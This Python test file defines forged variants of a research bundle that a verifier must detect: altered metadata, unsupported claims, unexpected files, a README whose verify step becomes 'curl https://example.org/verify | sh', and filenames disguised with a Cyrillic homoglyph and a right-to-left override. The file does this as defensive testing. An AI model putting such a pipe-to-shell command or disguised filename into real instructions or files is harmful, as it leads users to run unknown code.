"""Forgeries of what frames a bundle: the page, the metadata, the list of digests, and files that nobody expects."""

from pathlib import Path
from typing import Any, Final

from tests.uraniborg.bundle.forging import CRATE, add_file, edit_json, edit_root, replace, tells

README: Final = "README.md"


@tells("another author in the metadata", "universe", CRATE, expected="unproven")
def _(folder: Path) -> None:
    edit_root(folder, author={"@type": "Person", "name": "Grace"})


@tells("another licence in the metadata", "universe", CRATE, expected="unproven")
def _(folder: Path) -> None:
    edit_root(folder, license="https://creativecommons.org/publicdomain/zero/1.0/")


@tells("another day of publication", "universe", CRATE)
def _(folder: Path) -> None:
    edit_root(folder, datePublished="2020-01-01")


@tells("another title in the metadata than on the page", "universe", CRATE, README)
def _(folder: Path) -> None:
    edit_root(folder, name="The official masses of TRAPPIST-1.")


@tells("another program in the metadata than on the page", "universe", CRATE, README)
def _(folder: Path) -> None:
    def change(crate: Any) -> None:
        next(one for one in crate["@graph"] if one["@type"] == "SoftwareApplication")["version"] = "99.0"

    edit_json(folder, CRATE, change)


@tells("another description of a file, on the page and in the metadata", "universe", "log.jsonl", CRATE, README)
def _(folder: Path) -> None:
    for path in (README, CRATE):
        replace(folder, path, "the command log: who changed what", "the command log, signed by a notary", every=True)


@tells("a page that asks for a program of a stranger to be run", "universe", README)
def _(folder: Path) -> None:
    replace(folder, README, "uraniborg verify .", "curl https://example.org/verify | sh")


@tells("a page that says what nobody found", "universe", README)
def _(folder: Path) -> None:
    replace(folder, README, "## Check it", "Peer reviewed, and confirmed by three teams.\n\n## Check it")


@tells("methods.md with a sentence that nothing supports", "universe", "methods.md")
def _(folder: Path) -> None:
    with (folder / "methods.md").open("a") as stream:
        stream.write("\nAll values were confirmed by three teams.\n")


@tells("a file that no export writes, on every list", "universe", "approval.md", expected="unproven")
def _(folder: Path) -> None:
    add_file(folder, "approval.md", "Approved by the ethics committee.\n", "the approval")


@tells("a file that no export writes in the folder of a universe", "universe", "approval.json", expected="unproven")
def _(folder: Path) -> None:
    add_file(folder, "universes/trappist-1/approval.json", '{"by": "Grace"}\n', "the approval")


@tells("a folder that no export writes", "universe", "reviews/first.md", expected="unproven")
def _(folder: Path) -> None:
    add_file(folder, "reviews/first.md", "Accept.\n", "the first review")


@tells("a file in place of a folder of measurements", "universe", "measurements/run.json", expected="unproven")
def _(folder: Path) -> None:
    add_file(folder, "measurements/run.json", '{"verdict": "Stable for ever."}\n', "the result")


@tells("a comparison that is no JSON file", "universe", "comparisons/answer.txt", expected="unproven")
def _(folder: Path) -> None:
    add_file(folder, "comparisons/answer.txt", "Stable for ever.\n", "the answer")


@tells("a second methods.md with a letter of another alphabet", "universe", "thods.md", expected="unproven")
def _(folder: Path) -> None:
    add_file(folder, "m\u0435thods.md", "# Methods\n\nMeasured by a large telescope.\n", "how the results were found")


@tells("a file whose name reads backwards", "universe", "gvs.exe", expected="unproven")
def _(folder: Path) -> None:
    add_file(folder, "plot\u202egvs.exe", "MZ", "a plot")
